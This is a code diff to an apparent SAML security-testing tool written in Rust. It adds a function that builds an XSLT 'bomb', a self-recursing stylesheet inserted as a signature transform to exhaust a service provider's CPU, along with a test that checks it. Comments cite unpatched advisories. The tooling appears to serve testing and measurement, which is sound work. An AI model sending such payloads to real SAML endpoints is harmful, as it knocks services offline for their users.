@@ -102,20 +102,7 @@ pub fn deflate_bomb(f: &Forge) -> Result<Burden, Skip> {
 /// same response and claim with its own transforms, padded with spaces to the same length.
 pub fn many_transforms(f: &Forge) -> Result<Burden, Skip> {
     let doc = Doc::parse(f.seed)?;
-    let signed = doc
-        .assertion()
-        .ok()
-        .filter(|a| bytes::signature_of(*a).is_some())
-        .or_else(|| Some(doc.root()).filter(|r| bytes::signature_of(*r).is_some()))
-        .ok_or_else(|| {
-            Skip::NotApplicable("neither the Assertion nor the Response is signed".into())
-        })?;
-    let transforms = bytes::signature_of(signed)
-        .and_then(|s| {
-            s.descendants()
-                .find(|n| n.has_tag_name((DSIG_NS, "Transforms")))
-        })
-        .ok_or_else(|| Skip::NotApplicable("the signature's Reference has no Transforms".into()))?;
+    let (signed, transforms) = signed_transforms(&doc)?;
     let transform = bytes::child(transforms, DSIG_NS, "Transform")
         .ok_or_else(|| Skip::NotApplicable("the signature's Reference has no Transform".into()))?;
     let extra = format!(
@@ -155,6 +142,62 @@ pub fn many_transforms(f: &Forge) -> Result<Burden, Skip> {
         shown,
         yardstick: encoded(&yardstick),
         yardstick_is: "the same-size response with only its own transforms",
+    })
+}
+
+/// The element whose signature a verifier checks first (the Assertion, or the Response when
+/// only it is signed) and the Transforms of that signature's Reference.
+fn signed_transforms<'a, 'i>(doc: &'a Doc<'i>) -> Result<(Node<'a, 'i>, Node<'a, 'i>), Skip> {
+    let signed = doc
+        .assertion()
+        .ok()
+        .filter(|a| bytes::signature_of(*a).is_some())
+        .or_else(|| Some(doc.root()).filter(|r| bytes::signature_of(*r).is_some()))
+        .ok_or_else(|| {
+            Skip::NotApplicable("neither the Assertion nor the Response is signed".into())
+        })?;
+    let transforms = bytes::signature_of(signed)
+        .and_then(|s| {
+            s.descendants()
+                .find(|n| n.has_tag_name((DSIG_NS, "Transforms")))
+        })
+        .ok_or_else(|| Skip::NotApplicable("the signature's Reference has no Transforms".into()))?;
+    Ok((signed, transforms))
+}
+
+/// The XSLT transform's algorithm URI.
+const XSLT: &str = "http://www.w3.org/TR/1999/REC-xslt-19991116";
+
+/// The depth of the XSLT bomb's recursion: 2^22 template calls, about 3.4 s in libxslt 1.1.35
+/// (`xmlsec1 --verify`, this machine), each level more doubling it.
+pub const XSLT_DEPTH: u32 = 22;
+
+/// An XSLT transform (after the Reference's own) whose template calls itself twice per level,
+/// [`XSLT_DEPTH`] levels deep: no output and no fetch, only CPU. The signature no longer
+/// verifies, but libxmlsec1 runs a Reference's transforms before it checks the
+/// SignatureValue, and an SP that does not allow-list them runs this one (python3-saml
+/// GHSA-8mmq-f9vf-8fg2, pysaml2 GHSA-6qg6-h5xq-x84c, both open). The yardstick is the same
+/// stylesheet called zero levels deep.
+pub fn xslt_bomb(f: &Forge) -> Result<Burden, Skip> {
+    let doc = Doc::parse(f.seed)?;
+    let (_, transforms) = signed_transforms(&doc)?;
+    let tag = bytes::qualified_name(doc.src, transforms);
+    let ds = tag.strip_suffix("Transforms").unwrap_or_default();
+    let at = bytes::before_end_tag(doc.src, transforms);
+    let with_depth = |depth: String| {
+        let xslt = format!(
+            "<{ds}Transform Algorithm=\"{XSLT}\"><xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:call-template name=\"twice\"><xsl:with-param name=\"n\" select=\"{depth}\"/></xsl:call-template></xsl:template><xsl:template name=\"twice\"><xsl:param name=\"n\"/><xsl:if test=\"$n &gt; 0\"><xsl:call-template name=\"twice\"><xsl:with-param name=\"n\" select=\"$n - 1\"/></xsl:call-template><xsl:call-template name=\"twice\"><xsl:with-param name=\"n\" select=\"$n - 1\"/></xsl:call-template></xsl:if></xsl:template></xsl:stylesheet></{ds}Transform>"
+        );
+        bytes::splice(doc.src, vec![bytes::insert(at, xslt)])
+    };
+    let depth = XSLT_DEPTH.to_string();
+    let burden = with_depth(depth.clone());
+    let zero = format!("{:<width$}", "0", width = depth.len());
+    Ok(Burden {
+        encoded: encoded(&burden),
+        shown: burden.clone(),
+        yardstick: encoded(with_depth(zero)),
+        yardstick_is: "the same-size response with the stylesheet called zero levels deep",
     })
 }
 
@@ -277,9 +320,41 @@ mod tests {
     }
 
     #[test]
+    fn the_xslt_bomb_recurses_its_depth_and_its_yardstick_zero_levels() {
+        let bomb = xslt_bomb(&forge(SIGNED)).unwrap();
+        assert_eq!(bomb.yardstick.len(), bomb.encoded.len());
+        let select = |encoded: &str| {
+            let xml = String::from_utf8(
+                base64::engine::general_purpose::STANDARD
+                    .decode(encoded)
+                    .unwrap(),
+            )
+            .unwrap();
+            let doc = roxmltree::Document::parse(&xml).unwrap();
+            let transforms = doc
+                .descendants()
+                .filter(|n| n.has_tag_name((DSIG_NS, "Transform")))
+                .map(|n| n.attribute("Algorithm").unwrap_or_default().to_owned())
+                .collect::<Vec<_>>();
+            assert_eq!(transforms.last().map(String::as_str), Some(XSLT));
+            doc.descendants()
+                .find(|n| n.tag_name().name() == "with-param")
+                .and_then(|n| n.attribute("select"))
+                .unwrap()
+                .to_owned()
+        };
+        assert_eq!(select(&bomb.encoded), XSLT_DEPTH.to_string());
+        assert_eq!(select(&bomb.yardstick).trim_end(), "0");
+    }
+
+    #[test]
     fn an_unsigned_seed_gets_no_transforms() {
         assert!(matches!(
             many_transforms(&forge(SEED)),
+            Err(Skip::NotApplicable(_))
+        ));
+        assert!(matches!(
+            xslt_bomb(&forge(SEED)),
             Err(Skip::NotApplicable(_))
         ));
     }
